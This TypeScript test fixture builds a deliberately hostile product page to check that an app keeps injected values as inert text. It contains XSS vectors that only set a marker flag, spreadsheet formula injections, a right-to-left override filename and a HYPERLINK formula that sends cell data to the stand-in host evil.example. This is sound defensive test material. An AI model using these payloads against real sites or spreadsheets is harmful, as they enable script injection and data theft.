import { escapeHtml } from './html.ts';
import { recordOf } from './record.ts';
import type { Page, Site } from './site.ts';

/** A script that sets a mark on the window if it ever runs; a test of the app looks for that mark. */
const attack = 'window.hostileRan=true';

/**
 * Values that must stay text wherever they are shown or written: markup, script, formulas, a
 * right-to-left override, links that are code.
 */
export function hostilePage(site: Site): Page {
  const title = `<img src=x onerror="${attack}"> Free anchor`;
  const description = '=HYPERLINK("http://evil.example/?"&A1,"Click for your prize")';
  const tags = ['+1+1', '-2+3', '@SUM(A1:A9)', `<script>${attack}</script>`, 'gpj.\u202eexe'];
  const canonical = `javascript:${attack}`;
  const html = `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>${escapeHtml(title)}</title>
<meta name="description" content="${escapeHtml(description)}">
<link rel="canonical" href="${canonical}">
</head>
<body onload="${attack}">
<main>
<h1>${escapeHtml(title)}</h1>
<img src="x" onerror="${attack}">
<script>${attack}</script>
<svg onload="${attack}"></svg>
<p class="price">=1+1 for 13.37</p>
<p class="tags">${tags.map((tag) => `<span class="tag">${escapeHtml(tag)}</span>`).join('\n')}</p>
<p class="stock in-stock">In stock</p>
<p><a href="javascript:${attack}">A link that is code</a> <a href="data:text/html,&lt;script&gt;${attack}&lt;/script&gt;">and another</a></p>
<iframe srcdoc="&lt;script&gt;parent.${attack}&lt;/script&gt;"></iframe>
<form action="javascript:${attack}"><button>Go</button></form>
</main>
</body>
</html>
`;
  return {
    html,
    record: recordOf(html, {
      title,
      description,
      price: '1',
      inStock: true,
      tags,
      image: `${site.origins[site.role]}/x`,
      canonical,
    }),
  };
}
